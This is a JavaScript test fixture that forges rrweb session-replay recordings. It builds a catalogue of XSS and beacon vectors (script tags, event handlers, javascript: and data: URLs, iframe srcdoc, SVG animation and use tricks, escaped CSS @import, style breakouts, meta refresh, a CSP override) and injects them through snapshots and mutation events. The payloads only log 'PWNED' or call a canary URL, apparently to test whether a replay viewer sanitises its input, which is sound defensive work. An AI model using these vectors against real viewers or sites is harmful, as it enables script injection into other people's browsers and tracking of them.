// Recordings as a forged recorder would send them: S1 to S12 of the attack
// catalogue as rrweb nodes and mutations. Each tries to run script in the viewer's
// browser (it would print PWNED) or to make it speak to the canary.

let next = 1
const node = (fields) => ({ id: next++, ...fields })
const text = (textContent, isStyle) => node({ type: 3, textContent, ...(isStyle ? { isStyle: true } : {}) })
const el = (tagName, attributes = {}, ...children) =>
  node({ type: 2, tagName, attributes, childNodes: children.map((c) => (typeof c === 'string' ? text(c, tagName === 'style') : c)) })
const svg = (tagName, attributes = {}, ...children) => ({ ...el(tagName, attributes, ...children), isSVG: true })

/** Vectors for a canary's address: [name, node maker]; made anew for each use, since ids are. */
export function vectors(canary) {
  const run = (name) => `console.log('PWNED ${name}')`
  const url = (name) => `${canary}/${name}`
  return [
    ['inline script', (n) => el('script', {}, run(n))],
    ['script src', (n) => el('script', { src: url(n) })],
    ['module script', (n) => el('script', { type: 'module', src: url(n) })],
    ['img onerror', (n) => el('img', { src: 'data:,x', onerror: run(n) })],
    ['img src', (n) => el('img', { src: url(n) })],
    ['img srcset', (n) => el('img', { srcset: `${url(n)} 1x` })],
    ['img lowsrc and dynsrc', (n) => el('img', { lowsrc: url(n), dynsrc: url(n) })],
    ['picture source', (n) => el('picture', {}, el('source', { srcset: url(n) }), el('img', {}))],
    ['rr_dataURL', (n) => el('img', { rr_dataURL: url(n), rr_src: url(n) })],
    ['iframe src', (n) => el('iframe', { src: url(n) })],
    ['iframe rr_src', (n) => el('iframe', { rr_src: url(n) })],
    ['iframe srcdoc', (n) => el('iframe', { srcdoc: `<script>${run(n)}</script><img src="${url(n)}">` })],
    ['iframe javascript', (n) => el('iframe', { src: `javascript:${run(n)}` })],
    ['iframe data', (n) => el('iframe', { src: `data:text/html,<script>${run(n)}</script>` })],
    ['nested iframe', (n) => el('iframe', {}, el('iframe', { src: url(n) }))],
    ['frameset', (n) => el('frameset', {}, el('frame', { src: url(n) }))],
    ['object data', (n) => el('object', { data: url(n) })],
    ['object html', (n) => el('object', { data: `data:text/html,<script>${run(n)}</script>`, type: 'text/html' })],
    ['embed src', (n) => el('embed', { src: url(n) })],
    ['svg script', (n) => svg('svg', {}, svg('script', {}, run(n)))],
    ['svg onload', (n) => svg('svg', { onload: run(n) })],
    ['svg animate onbegin', (n) => svg('svg', {}, svg('animate', { onbegin: run(n), attributeName: 'x', dur: '1s' }))],
    ['svg set href', (n) => svg('svg', {}, svg('a', {}, svg('set', { attributeName: 'href', to: `javascript:${run(n)}` }), svg('text', {}, 'x')))],
    ['svg use external', (n) => svg('svg', {}, svg('use', { href: `${url(n)}#x` }))],
    ['svg image', (n) => svg('svg', {}, svg('image', { href: url(n), width: '9', height: '9' }))],
    ['svg xlink image', (n) => svg('svg', {}, svg('image', { 'xlink:href': url(n), width: '9', height: '9' }))],
    ['svg feImage', (n) => svg('svg', {}, svg('filter', { id: 'f1' }, svg('feImage', { href: url(n) })), svg('rect', { filter: 'url(#f1)', width: '9', height: '9' }))],
    ['svg fill url', (n) => svg('svg', {}, svg('rect', { fill: `url(${url(n)}#p)`, width: '9', height: '9' }))],
    ['svg style', (n) => svg('svg', {}, svg('style', {}, `@import url(${url(n)});`))],
    ['foreignObject iframe', (n) => svg('svg', {}, svg('foreignObject', {}, el('iframe', { src: url(n) })))],
    ['link stylesheet', (n) => el('link', { rel: 'stylesheet', href: url(n) })],
    ['link _cssText', (n) => el('link', { rel: 'stylesheet', href: 'x', _cssText: `@import url(${url(n)}); body { background: url(${url(n)}) }` })],
    ['link preload', (n) => el('link', { rel: 'preload', as: 'image', href: url(n) })],
    ['link modulepreload', (n) => el('link', { rel: 'modulepreload', href: url(n) })],
    ['link prefetch', (n) => el('link', { rel: 'prefetch', href: url(n) })],
    ['link preconnect', (n) => el('link', { rel: 'preconnect', href: canary })],
    ['link dns-prefetch', (n) => el('link', { rel: 'dns-prefetch', href: canary })],
    ['link icon', (n) => el('link', { rel: 'icon', href: url(n) })],
    ['link manifest', (n) => el('link', { rel: 'manifest', href: url(n) })],
    ['style @import', (n) => el('style', {}, `@import "${url(n)}";`)],
    ['style @import, escaped', (n) => el('style', {}, `@\\69mport "${url(n)}";`)],
    ['style background', (n) => el('style', {}, `body { background: url("${url(n)}") }`)],
    ['style url, escaped', (n) => el('style', {}, `html { background: \\75\\72\\6c(${url(n)}) }`)],
    ['style image-set', (n) => el('style', {}, `main { background: image-set("${url(n)}" 1x) }`)],
    ['style font-face', (n) => el('style', {}, `@font-face { font-family: z; src: url(${url(n)}) } body { font-family: z }`)],
    ['style attribute selector', (n) => el('style', {}, `[class^="a"] { list-style-image: url(${url(n)}) }`)],
    ['style cursor and mask', (n) => el('style', {}, `* { cursor: url(${url(n)}), auto; mask-image: url(${url(n)}) }`)],
    ['style breaks out', (n) => el('style', {}, `</style><img src=x onerror="${run(n)}"><style>`)],
    ['style attribute', (n) => el('div', { style: `background-image: url(${url(n)})`, class: 'x' }, 'x')],
    ['video', (n) => el('video', { src: url(n), poster: url(n), autoplay: '' })],
    ['audio source track', (n) => el('audio', { autoplay: '' }, el('source', { src: url(n) }), el('track', { src: url(n), default: '' }))],
    ['input image', (n) => el('input', { type: 'image', src: url(n) })],
    ['input autofocus onfocus', (n) => el('input', { autofocus: '', onfocus: run(n) })],
    ['details ontoggle', (n) => el('details', { open: '', ontoggle: run(n) }, el('summary', {}, 'x'))],
    ['marquee onstart', (n) => el('marquee', { onstart: run(n) }, 'x')],
    ['css animation handler', (n) => el('div', { style: 'animation: 1ms fp-x', onanimationstart: run(n), onanimationend: run(n) }, 'x')],
    ['body background', (n) => el('table', { background: url(n) }, el('tbody', {}))],
    ['body onload', (n) => el('body', { onload: run(n), background: url(n) })],
    ['form with autofocus', (n) => el('form', { action: url(n), method: 'post' }, el('button', { formaction: `javascript:${run(n)}`, autofocus: '' }, 'x'))],
    ['a javascript', (n) => el('a', { href: `javascript:${run(n)}`, ping: url(n), class: 'lure' }, 'link')],
    ['math href', (n) => el('math', {}, el('mi', { href: `javascript:${run(n)}` }, 'x'))],
    ['noscript', (n) => el('noscript', {}, `<img src="${url(n)}">`)],
    ['template', (n) => el('template', {}, el('img', { src: url(n) }))],
    ['prototype keys', (n) => el('div', { __proto__: null, constructor: 'x', onclick: run(n), 'o\u006error': run(n) }, 'x')],
    ['handler in odd case', (n) => el('IMG', { SRC: url(n), oNeRrOr: run(n) })],
    ['tag with namespace', (n) => el('svg:script', {}, run(n))],
    ['portal', (n) => el('portal', { src: url(n) })],
    ['speculation rules', (n) => el('script', { type: 'speculationrules' }, JSON.stringify({ prefetch: [{ urls: [url(n)] }] }))],
    ['shadow root', (n) => ({ ...el('div', {}, { ...el('img', { src: url(n), onerror: run(n) }), isShadow: true }), isShadowHost: true })],
    // These would turn the page round for all others, so they come last.
    ['base', (n) => el('base', { href: url(n) + '/' })],
    ['meta refresh', (n) => el('meta', { 'http-equiv': 'refresh', content: `0;url=${url(n)}` })],
    ['meta policy', () => el('meta', { 'http-equiv': 'Content-Security-Policy', content: "script-src 'unsafe-inline' *" })],
  ]
}

const slug = (name) => name.replace(/\W+/g, '-')

/** All vectors' nodes. */
export const nodes = (canary) => vectors(canary).map(([name, make]) => make(slug(name)))

/** rrweb events: a page that holds the nodes from the start, between two marks. */
export function inSnapshot(canary, time) {
  next = 1
  return document_(time, [el('p', { class: 'mark-before' }, 'xx'), ...nodes(canary), el('p', { class: 'mark-after' }, 'xx')])
}

/** rrweb events: a harmless page that becomes hostile by every kind of increment. */
export function inMutations(canary, time) {
  next = 1
  const target = el('main', { class: 'mark-before' }, 'xx')
  const image = el('img', { width: '9', height: '9' })
  const style = el('style', {}, 'p { color: red }')
  const frame = el('iframe', {})
  const canvas = el('canvas', {})
  const events = document_(time, [target, image, style, frame, canvas])
  const c = (name) => `${canary}/increment-${name}`
  const add = (node) => ({ parentId: target.id, nextId: null, node })
  const increments = [
    { source: 0, adds: nodes(canary).map(add), removes: [], texts: [], attributes: [] },
    { source: 0, adds: [], removes: [], attributes: [
      { id: image.id, attributes: { src: c('src'), srcset: c('srcset'), onerror: "console.log('PWNED attribute')" } },
      { id: frame.id, attributes: { src: c('frame'), srcdoc: `<script>console.log('PWNED srcdoc')</script>` } },
      { id: target.id, attributes: { style: { 'background-image': `url(${c('style-object')})` }, onclick: "console.log('PWNED onclick')" } },
      { id: style.id, attributes: { _cssText: `@import url(${c('css-text')})` } },
      { id: canvas.id, attributes: { style: `background: url(${c('style-text')})`, rr_dataURL: c('canvas') } },
    ], texts: [{ id: style.childNodes[0].id, value: `body { background: url(${c('text')}) }` }] },
    { source: 8, id: style.id, adds: [{ rule: `@import url(${c('rule-import')});`, index: 0 }, { rule: `body { background: url(${c('rule')}) }`, index: 0 }] },
    { source: 8, id: style.id, replaceSync: `html { background: url(${c('replace')}) }` },
    { source: 13, id: style.id, index: [0], set: { property: 'background', value: `url(${c('declaration')})`, priority: '' } },
    { source: 15, id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule: `main { background: url(${c('adopted')}) }`, index: 0 }] }] },
    { source: 10, family: 'z', fontSource: `url(${c('font')})`, buffer: false },
    { source: 9, id: canvas.id, type: 0, commands: [{ property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: c('canvas-image') }] }] },
    { source: 7, type: 0, id: image.id, currentTime: 0 },
    { source: 99, id: target.id, anything: `<img src=${c('unknown')}>` },
    { source: 0, adds: [add(el('p', { class: 'mark-after' }, 'xx'))], removes: [], texts: [], attributes: [] },
  ]
  return [...events, ...increments.map((data, i) => ({ type: 3, timestamp: time + 500 + i * 100, data })),
    { type: 5, timestamp: time + 3000, data: { tag: 'x', payload: `<script>console.log('PWNED custom')</script>` } }]
}

function document_(time, body) {
  const doc = node({ type: 0, childNodes: [node({ type: 1, name: 'html', publicId: '', systemId: '' }), el('html', { lang: 'en' }, el('head'), el('body', {}, ...body))] })
  return [
    { type: 4, timestamp: time, data: { href: 'http://site.localhost/', width: 1024, height: 768 } },
    { type: 2, timestamp: time + 10, data: { node: doc, initialOffset: { top: 0, left: 0 } } },
    { type: 3, timestamp: time + 4000, data: { source: 3, id: doc.id, x: 0, y: 10 } },
  ].sort((a, b) => a.timestamp - b.timestamp)
}

/** The same nodes as a plain page, to show that the vectors bite where nothing guards. */
export function plain(canary) {
  next = 1
  const esc = (s) => String(s).replaceAll('&', '&amp;').replaceAll('"', '&quot;')
  const html = (n) => n.type === 3 ? n.textContent
    : `<${n.tagName}${Object.entries(n.attributes).map(([k, v]) => ` ${k}="${esc(v)}"`).join('')}>${n.childNodes.map(html).join('')}</${n.tagName}>`
  const safe = nodes(canary).slice(0, -3) // base, refresh and policy would hide the others
  return `<!doctype html><body>${safe.map(html).join('\n')}</body>`
}
